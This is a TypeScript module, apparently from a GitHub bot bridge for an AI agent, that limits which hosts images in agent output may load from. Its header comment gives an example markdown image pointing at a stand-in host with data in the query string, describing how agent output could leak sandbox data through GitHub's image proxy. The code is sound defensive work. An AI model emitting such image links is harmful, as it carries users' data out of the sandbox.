/**
 * Which hosts an image in agent output may load from. GitHub's image proxy fetches every image a
 * comment shows, so an image on any other host would carry data out of the agent's sandbox under
 * the bot's name (`![x](https://elsewhere/p.png?d=…)`): only GitHub's own hosts render.
 */

import type { GitHubServer } from "../github-hosts.js";

/** Host names; `*.example.com` stands for every subdomain of example.com (not example.com itself). */
export type ImageHosts = readonly string[];

/** github.com's own image hosts: attachments live on github.com and *.githubusercontent.com. */
export const GITHUB_IMAGE_HOSTS: ImageHosts = ["github.com", "*.githubusercontent.com"];

/**
 * The image hosts for the GitHub a bridge talks to (core/github-hosts.ts): github.com's, plus a
 * GitHub Enterprise Server's own host and its subdomains (where it serves attachments with subdomain
 * isolation).
 */
export function imageHostsFor(server: GitHubServer): ImageHosts {
  if (!server.enterprise) return GITHUB_IMAGE_HOSTS;
  const host = new URL(server.webOrigin).hostname.toLowerCase();
  return [...GITHUB_IMAGE_HOSTS, host, `*.${host}`];
}

/** Whether an image at `url` may render: http(s), no credentials, and a host in `hosts`. */
export function isAllowedImageUrl(url: string, hosts: ImageHosts = GITHUB_IMAGE_HOSTS): boolean {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return false;
  }
  if (parsed.protocol !== "https:" && parsed.protocol !== "http:") return false;
  if (parsed.username !== "" || parsed.password !== "") return false;
  const host = parsed.hostname.toLowerCase();
  return hosts.some((allowed) => {
    const pattern = allowed.toLowerCase();
    return pattern.startsWith("*.") ? host.endsWith(pattern.slice(1)) && host.length > pattern.length - 1 : host === pattern;
  });
}
